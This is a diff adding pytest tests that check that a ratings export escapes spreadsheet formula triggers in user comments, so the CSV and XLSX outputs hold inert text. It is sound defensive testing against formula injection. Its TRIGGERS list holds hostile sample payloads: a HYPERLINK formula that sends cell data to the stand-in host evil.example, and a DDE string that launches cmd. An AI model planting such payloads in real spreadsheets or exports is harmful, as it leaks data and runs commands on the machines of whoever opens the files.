@@ -83,3 +83,39 @@ def test_raw_rows_come_in_keyset_batches(ctx):
     rows = exports.rating_rows(Filters(day, day, department_id=dept.id), batch=2)
     assert isinstance(rows, Iterator)  # nothing is read before the first row is asked for
     assert [row[0] for row in rows] == [r.id for r in made]
+
+
+FORMULA = '=HYPERLINK("http://evil.example/?x="&A1,"click")'
+TRIGGERS = [FORMULA, "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(1,2)", "\t=1+1", "\r=1+1"]
+
+
+def _xlsx_cells(data: bytes) -> list[list[object]]:
+    import openpyxl
+
+    sheet = openpyxl.load_workbook(io.BytesIO(data)).active
+    return [list(row) for row in sheet.iter_rows()]
+
+
+@pytest.mark.parametrize("text", TRIGGERS)
+def test_a_formula_in_a_rating_comment_is_inert_text_in_both_formats(client, text):
+    """Issue 14: a rating comment `=HYPERLINK(...)` must not be a live formula in the export."""
+    dept, manager = f.department(), f.user(Role.MANAGER)
+    text = rf.rate(rf.event(dept), 2, comment=text).comment  # as stored (stripped)
+    assert text.startswith(exports.FORMULA_TRIGGERS)
+    day = local_date(utcnow()).isoformat()
+    url = f"/api/v1/stats/ratings/export?from={day}&to={day}&department={dept.code}"
+    rows = _csv(client.get(f"{url}&format=csv", headers=f.bearer(manager)))
+    comment = rows[1][exports.RATING_HEADER.index("comment")]
+    assert comment == "'" + text
+    response = client.get(f"{url}&format=xlsx", headers=f.bearer(manager))
+    cells = _xlsx_cells(b"".join(response.response))
+    cell = cells[1][exports.RATING_HEADER.index("comment")]
+    assert cell.data_type == "s", (cell.data_type, cell.value)  # a string, not a formula ("f")
+    assert cell.value == text
+    assert not [c for row in cells for c in row if c.data_type == "f" or c.hyperlink is not None]
+
+
+def test_inert_cell_keeps_numbers_and_plain_text():
+    assert exports.inert_cell(-5) == -5 and exports.inert_cell(2.5) == 2.5 and exports.inert_cell(None) == ""
+    assert exports.inert_cell("海口市") == "海口市" and exports.inert_cell("=1") == "'=1"
+    assert exports.inert_cell("\t=1") == "'\t=1" and exports.inert_cell("\r=1") == "'\r=1"
